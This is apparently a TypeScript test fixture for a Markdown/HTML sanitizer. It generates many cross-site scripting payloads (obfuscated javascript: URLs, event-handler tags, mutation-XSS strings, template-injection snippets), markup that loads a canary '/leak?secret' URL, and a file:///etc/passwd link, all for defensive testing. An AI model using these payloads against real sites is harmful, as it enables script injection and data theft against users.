/** Markup that acts when a page believes it: each line is one payload, complete in itself. */
const schemes = (canary: string): string[] => [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  'javascript&colon;pwn()',
  'javascript&#58;pwn()',
  '&#106;&#x61;vascript:pwn()',
  'java&#x0A;script:pwn()',
  'java&Tab;script:pwn()',
  '\u0001javascript:pwn()',
  '\u00a0javascript:pwn()',
  '%6aavascript:pwn()',
  'java\u200bscript:pwn()',
  'javascript://%0apwn()',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  "data:image/svg+xml,<svg/onload='pwn()'>",
  'vbscript:pwn()',
  `blob:${canary}/blob`,
  'file:///etc/passwd',
  `view-source:${canary}/source`,
  `feed:${canary}/feed`,
  `filesystem:${canary}/temporary`,
  `ws://${canary.slice('http://'.length)}/socket`,
  'intent://x#Intent;scheme=javascript;end',
];

const linkForms: ((url: string) => string)[] = [
  (url) => `[link](${url})`,
  (url) => `[link](<${url}>)`,
  (url) => `<${url}>`,
  (url) => `![picture](${url})`,
  (url) => `[![picture](${url})](${url})`,
  (url) => `[link](${url} "title\\" onmouseover=pwn()")`,
  (url) => `[link][r]\n\n[r]: ${url}`,
  (url) => `<a href="${url}" autofocus onfocus="pwn()">link</a>`,
  (url) => `go to ${url} now`,
];

export const hostileLinks = (canary: string): string[] =>
  schemes(canary).flatMap((url) => linkForms.map((form) => form(url)));

const foreignUrls = (canary: string): string[] => [
  `${canary}/leak?secret`,
  `${canary.replace('http:', '')}/leak`,
  `${canary.replace('http://', 'HTTP:\\\\')}/leak`,
  `${canary.replace('http://', 'http:/')}/leak`,
  `${canary.replace('http://', 'http://user:secret@')}/leak`,
  `${canary.replace('127.0.0.1', '2130706433')}/leak`,
];

const loading: ((url: string) => string)[] = [
  (url) => `![](${url})`,
  (url) => `![picture](<${url}> 'title')`,
  (url) => `![picture][r]\n\n[r]: <${url}>`,
  (url) => `[![](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 2x" loading=eager>`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<video autoplay src="${url}" poster="${url}"><track default src="${url}"></video>`,
  (url) =>
    `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}"><link rel=preconnect href="${url}">`,
  (url) => `<style>@import url("${url}");</style>`,
  (url) => `<div style="background:url(${url})">text</div>`,
  (url) => `<table background="${url}"><tr><td>text</table>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<iframe src="${url}" srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<svg><image href="${url}"/><use href="${url}#a"/><filter><feImage href="${url}"/></filter></svg>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}"><a href="x">x</a>`,
  (url) => `<form action="${url}"><input name=a autofocus><button>go</button></form>`,
  (url) => `<script src="${url}"></script><script type=module>import "${url}"</script>`,
  (url) => `<a href="#" ping="${url}">ping</a>`,
  (url) => `<noscript><img src="${url}"></noscript><template><img src="${url}"></template>`,
  (url) => `Text.[^a]\n\n[^a]: ![](${url})`,
  (url) => `| ![](${url}) | <img src=${url}> |\n|---|---|\n| ![](${url}) | b |`,
];

export const hostileLoads = (canary: string): string[] =>
  foreignUrls(canary).flatMap((url) => loading.map((form) => form(url)));

const tags = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video src=x',
  'marquee',
  'a href=#',
  'iframe',
  'object data=x',
  'math',
  'x contenteditable tabindex=1 autofocus',
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onstart', 'onanimationstart'];
const surroundings: ((html: string) => string)[] = [
  (html) => html,
  (html) => `- item ${html}`,
  (html) => `> quote ${html}`,
  (html) => `# heading ${html}`,
  (html) => `| a ${html} |\n|---|\n| ${html} |`,
  (html) => `[text ${html}](https://example.org "${html}")`,
  (html) => `![alt ${html}](https://example.org/a.png)`,
];

/** Each tag with each handler, in one of the surroundings in turn. */
export const hostileHandlers = (): string[] =>
  tags.flatMap((tag, row) =>
    handlers.map((handler, column) => {
      const html = `<${tag} ${handler}=pwn()>text`;
      return surroundings[(row + column) % surroundings.length]!(html);
    }),
  );

export const hostileMarkup = (canary: string): string[] => [
  '<script>pwn()</script>',
  '<ScRiPt/x>pwn()</sCrIpT >',
  '<scr<script>ipt>pwn()</scr</script>ipt>',
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '\\<script>pwn()\\</script>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:pwn() /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn()>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<!--><img src=x onerror=pwn()>-->',
  '<!-- --!><img src=x onerror=pwn()>',
  '<![CDATA[<img src=x onerror=pwn()>]]>',
  '<?xml-stylesheet href="javascript:pwn()"?>',
  '<!DOCTYPE html [<!ENTITY x "pwn()">]>',
  '<textarea><img src=x onerror=pwn()></textarea>',
  '<title><img src=x onerror=pwn()></title>',
  '<plaintext><img src=x onerror=pwn()>',
  '<br onclick=pwn()>text<sub onclick=pwn()>x</sub><kbd style="position:fixed;inset:0">k</kbd>',
  '<sub><sup><kbd><sub><img src=x onerror=pwn()></sub></kbd></sup></sub>',
  '<img id=root name=getElementById><form id=documentElement><input name=attributes></form>',
  '<a id=probe name=cookie href="cid:pwn()">x</a>',
  '<dialog open><form method=dialog><button autofocus onfocus=pwn()>Allow</button></form></dialog>',
  '<div popover id=p onbeforetoggle=pwn()></div><button popovertarget=p>x</button>',
  '<input type=hidden oncontentvisibilityautostatechange=pwn() style=content-visibility:auto>',
  `<portal src="${canary}/portal"></portal><fencedframe src="${canary}/f"></fencedframe>`,
  `<link rel=manifest href="${canary}/m"><link rel=dns-prefetch href="${canary}">`,
  '"><img src=x onerror=pwn()>',
  "');pwn();//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for a template engine.
  '${pwn()} {{constructor.constructor("pwn()")()}} <%= pwn() %> #{pwn()}',
  'javascript:pwn()//<svg onload=pwn()>',
  '`<img src=x onerror=pwn()>` **<img src=x onerror=pwn()>** ~~<svg onload=pwn()>~~',
];
